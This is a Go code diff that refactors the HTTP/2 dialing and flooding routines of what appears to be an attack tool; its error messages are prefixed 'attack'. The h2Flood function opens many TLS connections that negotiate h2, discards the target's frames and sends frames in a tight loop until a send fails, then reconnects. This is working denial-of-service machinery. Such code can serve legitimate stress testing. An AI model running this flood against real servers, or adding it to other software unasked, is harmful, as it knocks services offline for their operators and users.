@@ -4,46 +4,31 @@ import (
 	"bytes"
 	"context"
 	"crypto/tls"
+	"fmt"
 	"io"
 	"net"
 	"strings"
-	"time"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
 )
 
-// h2Dial opens an HTTP/2 connection over TLS (ALPN "h2") and sends the
-// preface and empty settings; the target's frames are read and dropped by
-// a goroutine until the connection closes. It returns nil when the target
-// did not choose h2.
-func h2Dial(ctx context.Context, env Env) (net.Conn, *http2.Framer, chan struct{}) {
-	cfg := env.TLS.Clone()
-	cfg.NextProtos = []string{"h2"}
-	env.TLS = cfg
-	nc, err := dial(ctx, env, true)
-	if err != nil {
-		return nil, nil, nil
+// h2Dialer dials env's target over TLS offering only "h2" by ALPN; a
+// connection whose server did not choose it is an error.
+func h2Dialer(env Env) func(context.Context) (net.Conn, error) {
+	env.TLS = env.TLS.Clone()
+	env.TLS.NextProtos = []string{"h2"}
+	return func(ctx context.Context) (net.Conn, error) {
+		nc, err := dial(ctx, env, true)
+		if err != nil {
+			return nil, err
+		}
+		if p := nc.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
+			nc.Close()
+			return nil, fmt.Errorf("attack: the target chose %q, not h2", p)
+		}
+		return nc, nil
 	}
-	if nc.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
-		nc.Close()
-		return nil, nil, nil
-	}
-	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
-		nc.Close()
-		return nil, nil, nil
-	}
-	fr := http2.NewFramer(nc, nc)
-	if err := fr.WriteSettings(); err != nil {
-		nc.Close()
-		return nil, nil, nil
-	}
-	drained := make(chan struct{})
-	go func() {
-		defer close(drained)
-		_, _ = io.Copy(io.Discard, nc)
-	}()
-	return nc, fr, drained
 }
 
 // requestBlock is the HPACK block of GET / on the target.
@@ -60,26 +45,33 @@ func requestBlock(extra ...hpack.HeaderField) []byte {
 }
 
 // h2Flood runs n clients, each sending on one HTTP/2 connection at a
-// time until a send fails, then on a new one, until ctx ends; conn makes
-// a connection's sender (its stream IDs are its own).
+// time (after the preface and empty settings, the target's frames read and
+// dropped) until a send fails, then on a new one, until ctx ends; conn
+// makes a connection's sender (its stream IDs are its own).
 func h2Flood(ctx context.Context, env Env, n int, conn func() func(fr *http2.Framer) error) error {
-	return flood(ctx, env, n, func(ctx context.Context, plain net.Conn) error {
-		plain.Close() // flood's connection is plain: open an h2 one instead
-		nc, fr, drained := h2Dial(ctx, env)
-		if nc == nil {
-			sleep(ctx, 50*time.Millisecond)
+	return connLoop(ctx, n, 0, h2Dialer(env), func(ctx context.Context, nc net.Conn) error {
+		drained := make(chan struct{})
+		go func() {
+			defer close(drained)
+			_, _ = io.Copy(io.Discard, nc)
+		}()
+		defer func() {
+			nc.Close()
+			<-drained
+		}()
+		if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
 			return nil
 		}
-		stop := context.AfterFunc(ctx, func() { nc.Close() })
-		defer stop()
+		fr := http2.NewFramer(nc, nc)
+		if fr.WriteSettings() != nil {
+			return nil
+		}
 		send := conn()
 		for ctx.Err() == nil {
-			if err := send(fr); err != nil {
+			if send(fr) != nil {
 				break
 			}
 		}
-		nc.Close()
-		<-drained
 		return nil
 	})
 }
